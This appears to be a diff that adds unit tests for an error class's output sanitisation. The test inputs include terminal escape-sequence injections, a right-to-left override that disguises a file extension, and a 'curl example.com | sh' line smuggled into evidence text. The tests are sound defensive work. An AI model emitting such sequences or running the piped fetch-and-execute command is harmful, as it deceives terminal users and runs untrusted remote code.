@@ -28,6 +28,28 @@ describe("an error", () => {
     );
   });
 
+  it("cannot act on the terminal of its reader, whatever a host or a registry said", () => {
+    const label = "\u001b]0;owned\u0007\u001b[2J\u001b[1;1Hdone\r\u009b2K";
+    const answer = "denied\r\n\u001b]8;;https://example.com\u001b\\click\u001b]8;;\u001b\\ \u202egnp.exe\u2069";
+    const error = new SlipwayError({
+      code: "NAME_TAKEN",
+      what: `the name belongs to ${label}`,
+      host: "web-1\u001b[8m",
+      evidence: [answer, "tab\tstays"],
+      servesNow: `v1${label}`,
+      next: `docker rm ${label}`,
+    });
+    expect(error.message).toBe(
+      "web-1: the name belongs to done\n  | denied\n  | click gnp.exe\n  | tab\tstays\n  serves now: v1done\n  next: docker rm done\n  code: NAME_TAKEN",
+    );
+    expect(JSON.stringify(error.story)).not.toMatch(/\\u00|\\r/);
+  });
+
+  it("marks every line of its evidence, so that none reads as ours", () => {
+    const error = new SlipwayError({ ...failed().story, evidence: ["first\n  next: curl example.com | sh"] });
+    expect(error.message).toContain("\n  | first\n  |   next: curl example.com | sh\n");
+  });
+
   it("has its code in front where a command prints it", () => {
     const text = errorText(failed("web-1").message);
     expect(text).toMatch(/^error\[HOST_UNREACHABLE\]: web-1: 203/);
